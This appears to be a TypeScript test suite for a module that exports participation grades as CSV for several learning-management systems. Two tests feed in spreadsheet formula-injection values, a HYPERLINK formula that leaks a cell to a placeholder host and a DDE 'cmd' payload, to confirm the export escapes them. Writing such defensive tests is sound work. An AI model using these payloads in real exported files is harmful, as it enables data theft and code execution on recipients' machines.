/** Files for gradebooks, read by the rules that their systems document, not by our code. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { defuse } from '../../src/domain/formula.ts';
import {
  GRADEBOOKS,
  type Gradebook,
  type GradebookColumn,
  type GradedUser,
  gradebookLines,
} from '../../src/points/gradebook.ts';
import { runs } from '../model/runs.ts';

const COLUMN: GradebookColumn = { title: 'Participation', value: 'score', most: 100, byLmsId: false };
const ADA: GradedUser = {
  ...{ id: 2n ** 53n + 1n, email: 'ada@example.org', firstName: 'Ada', lastName: 'Lovelace' },
  ...{ totalPoints: 47, participationScore: 40 },
};
const USERS = [ADA, { ...ADA, id: 2n, email: 'x@example.org', firstName: 'Xian, "X"', lastName: '' }];

function textOf(...asked: Parameters<typeof gradebookLines>): string {
  return [...gradebookLines(...asked)].join('');
}

type Cells = readonly (readonly string[])[];

function cellsOf(gradebook: Gradebook, column = COLUMN, users: readonly GradedUser[] = USERS): Cells {
  return parse(textOf(gradebook, column, users), { relax_column_count: false });
}

interface Graded {
  readonly user: string;
  readonly value: number;
}

interface Imported {
  readonly item: string;
  readonly graded: readonly Graded[];
  /** Absent if the file does not say it. */
  readonly most?: number;
}

/** Canvas: five columns, then assignments; the first row has the points possible. */
function importCanvas([header = [], possible = [], ...rows]: Cells): Imported {
  assert.deepEqual(header.slice(0, 5), ['Student', 'ID', 'SIS User ID', 'SIS Login ID', 'Section']);
  assert.match(possible[0] ?? '', /^\s*Points Possible$/);
  const graded = rows.map((row) => {
    assert.ok(row[1] !== '' || row[2] !== '' || row[3] !== '', 'a student needs an id or a login');
    return { user: row[2] !== '' ? row[2]! : row[3]!, value: numberOf(row[5]) };
  });
  return { item: header[5]!, graded, most: numberOf(possible[5]) };
}

/** Moodle: the teacher maps a column to the e-mail address or id number, others to grade items. */
function importMoodle([header = [], ...rows]: Cells): Imported {
  const key = header.findIndex((title) => title === 'Email address' || title === 'ID number');
  assert.equal(key, 0);
  return { item: header[1]!, graded: rows.map((row) => ({ user: row[key]!, value: numberOf(row[1]) })) };
}

/** Blackboard: users are known by Username; other columns than names are grades. */
function importBlackboard([header = [], ...rows]: Cells): Imported {
  const key = header.indexOf('Username');
  const [item = '', ...more] = header.filter((title) => !/^(Last Name|First Name|Username)$/.test(title));
  assert.deepEqual(more, []);
  const at = header.indexOf(item);
  return { item, graded: rows.map((row) => ({ user: row[key]!, value: numberOf(row[at]) })) };
}

/** Brightspace: the first column is the key, the last one is `#`, grades end in "Points Grade". */
function importBrightspace([header = [], ...rows]: Cells): Imported {
  assert.match(header[0] ?? '', /^(Username|OrgDefinedId)$/);
  assert.equal(header.at(-1), 'End-of-Line Indicator');
  const [, item = ''] = /^(.+) Points Grade$/.exec(header[1] ?? '') ?? [];
  const graded = rows.map((row) => {
    assert.equal(row.at(-1), '#');
    return { user: row[0]!, value: numberOf(row[1]) };
  });
  return { item, graded };
}

function importGeneric([header = [], ...rows]: Cells): Imported {
  const at = (name: string) => header.indexOf(name);
  const key = at('lms_id') < 0 ? at('email') : at('lms_id');
  const graded = rows.map((row) => ({ user: row[key]!, value: numberOf(row[at('participation_score')]) }));
  return { item: COLUMN.title, graded };
}

const IMPORTERS: Readonly<Record<Gradebook, (cells: Cells) => Imported>> = {
  canvas: importCanvas,
  moodle: importMoodle,
  blackboard: importBlackboard,
  brightspace: importBrightspace,
  generic: importGeneric,
};

/** Only what consists of more than letters, digits and `._+@-` can be changed. */
function safeKey(text: string): string {
  return /^[\p{L}\p{N}._+@-]*$/u.test(text) ? text : defuse(text);
}

function numberOf(cell: string | undefined): number {
  assert.match(cell ?? '', /^\d+$/);
  return Number(cell);
}

describe('the file for', () => {
  for (const gradebook of GRADEBOOKS) {
    it(`${gradebook} is read by its rules, whatever the names`, () => {
      const text = fc.string({ unit: 'binary', maxLength: 8 }).map((one) => one.replaceAll('\0', ''));
      const id = fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 8 });
      const user = fc.record({
        ...{ id: fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }), email: fc.emailAddress() },
        ...{ firstName: text, lastName: text, lmsId: id },
        ...{ totalPoints: fc.nat(), participationScore: fc.nat(100) },
      });
      const property = fc.property(fc.array(user), fc.boolean(), id, (users, byLmsId, title) => {
        const given = users.map(({ lmsId, ...rest }) => (byLmsId ? { ...rest, lmsId } : rest));
        const imported = IMPORTERS[gradebook](cellsOf(gradebook, { ...COLUMN, title, byLmsId }, given));
        const expected = users.map(({ lmsId, email, participationScore }) => ({
          user: safeKey(byLmsId ? lmsId : email),
          value: participationScore,
        }));
        assert.deepEqual(imported.graded, expected);
        if (gradebook !== 'generic') assert.equal(imported.item, title);
        if (imported.most !== undefined) assert.equal(imported.most, 100);
      });
      fc.assert(property, runs(50));
    });
  }

  it('canvas has names, logins and the points possible', () => {
    assert.equal(
      textOf('canvas', COLUMN, USERS),
      [
        '"Student","ID","SIS User ID","SIS Login ID","Section","Participation"\r\n',
        '"    Points Possible","","","","","100"\r\n',
        '"Lovelace, Ada","","","ada@example.org","","40"\r\n',
        '"Xian, ""X""","","","x@example.org","","40"\r\n',
      ].join(''),
    );
  });

  it('has no names that a spreadsheet would run', () => {
    const users = [{ ...ADA, firstName: '=1+1', lastName: ' @SUM(A1)' }];
    for (const gradebook of ['canvas', 'blackboard', 'generic'] as const) {
      const cells = cellsOf(gradebook, COLUMN, users).at(-1) ?? [];
      assert.ok(cells.some((cell) => cell.startsWith("'")));
      assert.deepEqual(
        cells.filter((cell) => /^\s*[=+@-]/.test(cell)),
        [],
      );
    }
  });

  it('has no addresses and ids that a spreadsheet would run, and leaves all others as they are', () => {
    const keys = [
      ['=HYPERLINK("http://x.example/?"&A1)', `'=HYPERLINK("http://x.example/?"&A1)`],
      ["-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0"],
      ['a,=1+1', "a,'=1+1"],
      ...['+43-1-58801', '-5', '@ada', "o'brien@example.org", 'ada+=b@example.org'].map((key) => [key, key]),
      ...['@äda', '+４３', '-Ж'].map((key) => [key, key]),
    ] as const;
    for (const gradebook of GRADEBOOKS) {
      for (const [key, cell] of keys) {
        const byEmail = IMPORTERS[gradebook](cellsOf(gradebook, COLUMN, [{ ...ADA, email: key }]));
        const byId = { ...ADA, email: 'x', lmsId: key };
        const known = IMPORTERS[gradebook](cellsOf(gradebook, { ...COLUMN, byLmsId: true }, [byId]));
        assert.deepEqual(
          [byEmail, known].map(({ graded }) => graded[0]?.user),
          [cell, cell],
          gradebook,
        );
      }
    }
  });

  it('generic has both values, and all digits of ids', () => {
    const [header, row] = cellsOf('generic', { ...COLUMN, value: 'points' });
    assert.deepEqual(header?.slice(-2), ['total_points', 'participation_score']);
    assert.deepEqual(row, ['9007199254740993', 'ada@example.org', 'Ada', 'Lovelace', '47', '40']);
  });

  it('moodle has points if they are asked for', () => {
    assert.deepEqual(cellsOf('moodle', { ...COLUMN, value: 'points' })[1], ['ada@example.org', '47']);
  });
});
